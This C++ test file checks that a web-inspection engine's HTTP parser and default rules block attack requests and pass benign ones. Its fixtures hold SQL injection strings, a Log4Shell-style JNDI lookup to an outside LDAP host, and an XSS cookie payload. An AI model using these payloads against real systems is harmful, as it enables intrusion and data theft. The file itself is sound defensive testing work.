// Parsers + detect together: raw HTTP/1 requests through the real parser
// into the TransactionInspector with the default ruleset (configs/rules) plus
// one test exception for /api/search. Checks that the
// fields the parser emits (zones, names, raw values) are what rules expect.

#include <gtest/gtest.h>

#include <cstdlib>
#include <string>

#include "detect/signature/rule_loader.h"
#include "detect/transaction_inspector.h"
#include "parsers/parse_http_request.h"

namespace weir::detect {
namespace {

constexpr const char* kSearchException = R"(
exceptions:
  - id: "test-search"
    comment: "free-text search may contain SQL words and quotes"
    endpoint: {prefix: /api/search}
    zones: [query_arg]
    names: [q]
    classes: [sqli]
)";

class HttpInspectionTest : public ::testing::Test {
 protected:
  // The default ruleset takes seconds to compile: once for the suite.
  static void SetUpTestSuite() {
    const char* root = std::getenv("WEIR_SOURCE_ROOT");
    ASSERT_NE(root, nullptr);
    RuleSet rs = load_rules_dir(std::string(root) + "/configs/rules");
    load_rules_text(kSearchException, "test-exceptions.yaml", rs);
    snap_ = PolicySnapshot::compile(rs);
  }
  static void TearDownTestSuite() { snap_.reset(); }
  void SetUp() override {
    ASSERT_NE(snap_, nullptr);
    sink_.set_snapshot(snap_.get());
  }

  // Verdict of the last decision point of the request, and the rule ids seen.
  VerdictAction inspect(const std::string& raw, std::string* rules = nullptr) {
    seen_.clear();
    Recorder rec(*this);
    parse::parse_http_request(raw, rec);
    if (rules != nullptr) *rules = seen_;
    return last_;
  }

 private:
  struct Recorder final : parse::TransactionSink {
    explicit Recorder(HttpInspectionTest& t) : t_(t) {}
    parse::SinkVerdict on_decision(const parse::Transaction& txn) override {
      parse::SinkVerdict v = t_.sink_.on_decision(txn);
      t_.last_ = t_.sink_.last().verdict.action;
      for (const Finding& f : t_.sink_.last().findings)
        t_.seen_ += std::string(f.rule_id) + "@" + parse::zone_name(f.zone) + ":" +
                    std::string(f.field_name) + " ";
      return v;
    }
    HttpInspectionTest& t_;
  };

  static inline std::shared_ptr<const PolicySnapshot> snap_;
  InspectionEngine engine_;
  TransactionInspector sink_{engine_};
  VerdictAction last_ = VerdictAction::Pass;
  std::string seen_;
};

TEST_F(HttpInspectionTest, AttackInQueryIsStoppedAtEndOfHeaders) {
  std::string rules;
  EXPECT_EQ(inspect("GET /api/items?id=1%27%20OR%201%3D1--%20 HTTP/1.1\r\nHost: a\r\n\r\n", &rules),
            VerdictAction::Reset) << rules;
  EXPECT_NE(rules.find("@query_arg:id"), std::string::npos) << rules;
}

TEST_F(HttpInspectionTest, AttackInJsonBodyHeaderAndCookie) {
  std::string body = R"({"user":{"name":"x' UNION SELECT password FROM users--"}})";
  std::string rules;
  EXPECT_EQ(inspect("POST /api/users HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                    "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body, &rules),
            VerdictAction::Reset) << rules;
  EXPECT_NE(rules.find("@body_json:"), std::string::npos) << rules;
  EXPECT_EQ(inspect("GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://198.18.0.7/a}\r\n\r\n",
                    &rules),
            VerdictAction::Reset) << rules;
  EXPECT_NE(rules.find("jndi-100@header:x-api-version"), std::string::npos) << rules;
  EXPECT_EQ(inspect("GET / HTTP/1.1\r\nHost: a\r\nCookie: theme=dark; pref=<svg onload=alert(1)>\r\n\r\n",
                    &rules),
            VerdictAction::Reset) << rules;
  EXPECT_NE(rules.find("@cookie:pref"), std::string::npos) << rules;
}

TEST_F(HttpInspectionTest, BenignRequestsPass) {
  std::string body = R"({"name":"Mary O'Neil","note":"select a plan at union station","n":3})";
  std::string rules;
  EXPECT_EQ(inspect("POST /api/orders?sort=desc&q=O%27Brien HTTP/1.1\r\nHost: a\r\n"
                    "User-Agent: Mozilla/5.0\r\nContent-Type: application/json\r\n"
                    "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body, &rules),
            VerdictAction::Pass) << rules;
  EXPECT_EQ(rules, "");
}

TEST_F(HttpInspectionTest, ExceptionAppliesToTheSearchEndpoint) {
  std::string rules;
  EXPECT_EQ(inspect("GET /api/search?q=x%27%20or%201%3D1-- HTTP/1.1\r\nHost: a\r\n\r\n", &rules),
            VerdictAction::Pass) << rules;
  EXPECT_EQ(inspect("GET /api/other?q=x%27%20or%201%3D1-- HTTP/1.1\r\nHost: a\r\n\r\n", &rules),
            VerdictAction::Reset) << rules;
}

}  // namespace
}  // namespace weir::detect
